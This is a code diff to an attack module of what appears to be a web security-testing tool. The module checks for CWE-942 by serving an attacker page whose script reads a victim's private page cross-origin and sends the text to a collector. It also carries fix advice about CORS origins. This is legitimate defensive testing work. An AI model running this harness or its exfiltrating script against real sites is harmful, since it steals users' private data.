@@ -8,27 +8,26 @@ from __future__ import annotations
 import json
 from typing import TYPE_CHECKING
 
+from ringfence.prove.aims import private_pages, sees_secret
 from ringfence.prove.stage import (
     Attack,
     Outcome,
     Result,
     Target,
     new_marker,
+    one_by_one,
     stopped_by_answer,
 )
 
 if TYPE_CHECKING:
+    from ringfence.prove.discover.survey import Survey
     from ringfence.prove.stage import Stage
-    from ringfence.prove.survey import Survey
 
 __all__ = ["ATTACK"]
 
 
 def _find(survey: Survey) -> tuple[Target, ...] | str:
-    pages = survey.with_secret()
-    if not pages:
-        return "no page that shows the victim's name or e-mail address was found"
-    return tuple(Target(page.path, f"GET {page.path}") for page in pages)
+    return private_pages(survey)
 
 
 def _strike(stage: Stage, target: Target) -> Result:
@@ -41,11 +40,11 @@ def _strike(stage: Stage, target: Target) -> Result:
             .then((text) => send("read:" + text), (error) => send("blocked:" + error));
         </script>"""
     mark = stage.mark()
-    stage.lure(stage.attacker_page(name, page))
+    stage.visit(stage.serve(page, name=name))
     loot = stage.collected(name)
     if loot is None:
         return Result(Outcome.INCONCLUSIVE, "timeout", "the attacker's page never reported")
-    if stage.secret in loot:
+    if stage.secret(target.visitor) in loot:
         return Result(
             Outcome.SUCCEEDED, "read", f"{len(loot)} characters with the victim's data arrived"
         )
@@ -54,20 +53,13 @@ def _strike(stage: Stage, target: Target) -> Result:
     )
 
 
-def _use(stage: Stage, target: Target) -> str | None:
-    visit = stage.visit(stage.url(target.path))
-    if stage.secret in visit.source or stage.secret in visit.text:
-        return None
-    return f"the victim does not see the page either ({visit.error or visit.status})"
-
-
 ATTACK = Attack(
     name="read",
     title="cross-origin read of a page with the victim's data",
     cwe="CWE-942",
     stopped_by=("cors", "isolation", "transport"),
     find=_find,
-    strike=_strike,
-    use=_use,
+    strike=one_by_one(_strike),
+    use=sees_secret,
     fix="let CORS name the origins that may read; never reflect an origin with credentials",
 )
